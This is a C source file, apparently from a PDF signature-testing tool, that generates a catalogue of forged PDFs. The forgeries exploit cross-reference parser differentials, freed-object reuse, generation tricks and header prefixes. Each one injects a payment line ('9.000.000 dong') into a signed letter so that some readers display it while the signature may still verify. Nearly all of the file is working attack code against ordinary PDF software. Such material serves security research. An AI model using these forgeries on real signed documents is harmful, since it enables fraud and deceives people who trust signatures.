/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Parser differentials: cross-references that readers follow to different
 * places, and entries that bring back or take away objects.
 */

#include "anky-attack.h"
#include "anky-forge.h"

#include <string.h>

#define TRAILER                                                                \
  "/Root 1 0 R/Info 17 0 R/ID[<0123456789abcdef><0123456789abcdef>]"
#define EVIL                                                                   \
  "BT /F1 14 Tf 72 700 Td (Tong so tien phai tra la 9.000.000 dong.) Tj ET"

enum {
  EVIL_IN_STREAM,
  EVIL_IN_TABLE,
  EVIL_HIDDEN, /* free in the table, in use in the stream */
};

static gsize
append_xref_stm (AnkyForge *forge, guint number, gsize offset)
{
  gsize start = anky_forge_get_size (forge);
  g_autofree char *data = g_strdup_printf ("01%08x0000>", (guint) offset);
  g_autofree char *dict =
      g_strdup_printf ("<</Type/XRef/W[1 4 2]/Filter/ASCIIHexDecode/Index[%u "
                       "1]/Size 200>>",
                       number);

  anky_forge_append_stream (forge, 150, dict, data);
  return start;
}

/* A table and a stream that name different places for one object. */
static GBytes *
forge_hybrid (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyPdfDocument) document = anky_letter_open (letter, NULL);
  gsize old = (gsize) anky_pdf_revision_get_place (
                  anky_pdf_document_get_newest (document),
                  LETTER_CONTENT)
                  .offset;
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  gsize evil = anky_forge_get_size (forge);
  g_autofree char *trailer = NULL;
  gsize stream = 0;

  anky_forge_append_stream (forge, 151, "<<>>", EVIL);
  stream = append_xref_stm (forge,
                            LETTER_CONTENT,
                            self->number == EVIL_IN_TABLE ? old : evil);
  if (self->number == EVIL_HIDDEN)
    anky_forge_note_free (forge, LETTER_CONTENT, 0);
  else
    anky_forge_note_offset (forge,
                            LETTER_CONTENT,
                            self->number == EVIL_IN_TABLE ? evil : old);
  trailer = g_strdup_printf (TRAILER "/XRefStm %" G_GSIZE_FORMAT, stream);
  anky_forge_append_table (forge, trailer);
  return anky_forge_finish (forge);
}

/* One number twice in a section. */
static GBytes *
forge_twice (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyPdfDocument) document = anky_letter_open (letter, NULL);
  gsize old = (gsize) anky_pdf_revision_get_place (
                  anky_pdf_document_get_newest (document),
                  LETTER_CONTENT)
                  .offset;
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);

  if (self->number == 0)
    anky_forge_note_offset (forge, LETTER_CONTENT, old);
  anky_forge_append_stream (forge, LETTER_CONTENT, "<<>>", EVIL);
  if (self->number == 1)
    anky_forge_note_offset (forge, LETTER_CONTENT, old);
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* The entry leads into the middle of another object. */
static GBytes *
forge_inside (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  gsize start = anky_forge_get_size (forge);

  anky_forge_append_object (forge,
                            LETTER_INFO,
                            "<</Title(\n6 0 obj\n<</Length 0>>\nstream\n\n"
                            "endstream\nendobj\n)>>");
  anky_forge_note_offset (forge,
                          LETTER_CONTENT,
                          start + strlen ("17 0 obj\n<</Title(\n"));
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* The entry leads into the gap of the signature. */
static GBytes *
forge_into_gap (GBytes *letter, const AnkyAttack *self)
{
  AnkySigned found = anky_attack_find (letter);
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);

  anky_forge_note_offset (forge,
                          self->number,
                          (gsize) found.contents_start + 1);
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* Object 6 in a revision whose /Size says there is none. */
static GBytes *
forge_size (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyPdfDocument) document = anky_letter_open (letter, NULL);
  gsize old = (gsize) anky_pdf_revision_get_startxref (
      anky_pdf_document_get_newest (document));
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  g_autofree char *trailer = NULL;
  gsize section = 0;

  anky_forge_append_stream (forge, LETTER_CONTENT, "<<>>", EVIL);
  section = anky_forge_append_entries (forge);
  trailer = g_strdup_printf ("trailer\n<</Size %s/Prev %" G_GSIZE_FORMAT TRAILER
                             ">>\n",
                             self->text,
                             old);
  anky_forge_append (forge, trailer);
  anky_forge_append_startxref (forge, section);
  return anky_forge_finish (forge);
}

/* Bytes before the header move everything for some readers. */
static GBytes *
forge_prefix (GBytes *letter, const AnkyAttack *self)
{
  return anky_forge_replace (letter, 0, 0, self->text);
}

/* Number or generation that the object does not have. */
static GBytes *
forge_header (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  gsize start = anky_forge_get_size (forge);

  anky_forge_append (forge, self->text);
  anky_forge_append (forge, " <</Length 0>>\nstream\n\nendstream\nendobj\n");
  anky_forge_note_offset (forge, LETTER_CONTENT, start);
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* Freed in one revision, used for something else in the next. */
static GBytes *
forge_reuse (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) first = anky_forge_new (letter);
  g_autoptr (GBytes) freed = NULL;
  g_autoptr (AnkyForge) second = NULL;

  anky_forge_note_free (first, self->number, 0);
  anky_forge_append_table (first, TRAILER);
  freed = anky_forge_finish (first);
  second = anky_forge_new (freed);
  anky_forge_append_stream (second, self->number, "<<>>", EVIL);
  anky_forge_append_table (second, TRAILER);
  return anky_forge_finish (second);
}

static GBytes *
forge_prev_loop (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  g_autofree char *trailer = NULL;
  gsize section = 0;

  anky_forge_append_stream (forge, LETTER_CONTENT, "<<>>", EVIL);
  section = anky_forge_append_entries (forge);
  trailer = g_strdup_printf ("trailer\n<</Size 60/Prev %" G_GSIZE_FORMAT TRAILER
                             ">>\n",
                             section);
  anky_forge_append (forge, trailer);
  anky_forge_append_startxref (forge, section);
  return anky_forge_finish (forge);
}

/* The object as it was, under another generation: who refers to it refers to
 * nothing from now on, and renderers leave it out. */
static GBytes *
forge_generation (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyPdfDocument) document = anky_letter_open (letter, NULL);
  gsize old = (gsize) anky_pdf_revision_get_place (
                  anky_pdf_document_get_newest (document),
                  self->number)
                  .offset;
  const char *data = g_bytes_get_data (letter, NULL);
  gsize body = anky_forge_find (letter, "obj", old);
  gsize end = anky_forge_find (letter, "endobj", old) + strlen ("endobj\n");
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  gsize start = anky_forge_get_size (forge);
  g_autofree char *object = g_strdup_printf ("%u 1 %.*s",
                                             self->number,
                                             (int) (end - body),
                                             data + body);
  g_autofree char *entry =
      g_strdup_printf ("xref\n%u 1\n%010" G_GSIZE_FORMAT " 00001 n \n",
                       self->number,
                       start);
  gsize section = 0;

  anky_forge_append (forge, object);
  section = anky_forge_get_size (forge);
  anky_forge_append (forge, entry);
  anky_forge_append_trailer (forge, TRAILER);
  anky_forge_append_startxref (forge, section);
  return anky_forge_finish (forge);
}

#define P ANKY_VICTIM_PLAIN
#define S ANKY_VICTIM_STREAM

const AnkyAttack anky_attacks_xref[] = {
  { "hybrid/evil-in-stream", P, FALSE, forge_hybrid, EVIL_IN_STREAM },
  { "hybrid/evil-in-table", P, FALSE, forge_hybrid, EVIL_IN_TABLE },
  { "hybrid/evil-hidden", P, FALSE, forge_hybrid, EVIL_HIDDEN },
  { "xref/twice-evil-last", P, FALSE, forge_twice, 0 },
  { "xref/twice-evil-first", P, FALSE, forge_twice, 1 },
  { "xref/inside-object", P, FALSE, forge_inside },
  { "xref/into-gap", P, FALSE, forge_into_gap, LETTER_CONTENT },
  { "xref/into-gap-new", P, FALSE, forge_into_gap, LETTER_DANGLING },
  { "xref/size-too-small", P, FALSE, forge_size, 0, "3" },
  { "xref/size-zero", P, FALSE, forge_size, 0, "0" },
  { "xref/size-negative", P, FALSE, forge_size, 0, "-1" },
  { "xref/prefix-byte", P, FALSE, forge_prefix, 0, "\n" },
  { "xref/prefix-text", P, FALSE, forge_prefix, 0, "%!PS-Adobe-3.0\n" },
  { "xref/prefix-header", P, FALSE, forge_prefix, 0, "%PDF-1.0\n" },
  { "xref/other-number", P, FALSE, forge_header, 0, "7 0 obj" },
  { "xref/other-generation", P, FALSE, forge_header, 0, "6 1 obj" },
  { "xref/no-object", P, FALSE, forge_header, 0, "stream" },
  { "xref/prev-loop", P, FALSE, forge_prev_loop },
  { "freed/reused-content", P, FALSE, forge_reuse, LETTER_CONTENT },
  { "freed/reused-font", P, FALSE, forge_reuse, LETTER_FONT },
  { "freed/reused-form", P, FALSE, forge_reuse, LETTER_LOGO },
  { "freed/reused-page", P, FALSE, forge_reuse, LETTER_SECOND_PAGE },
  { "freed/other-generation-content",
    P,
    FALSE,
    forge_generation,
    LETTER_CONTENT },
  { "freed/other-generation-font", P, FALSE, forge_generation, LETTER_FONT },
  { NULL },
};
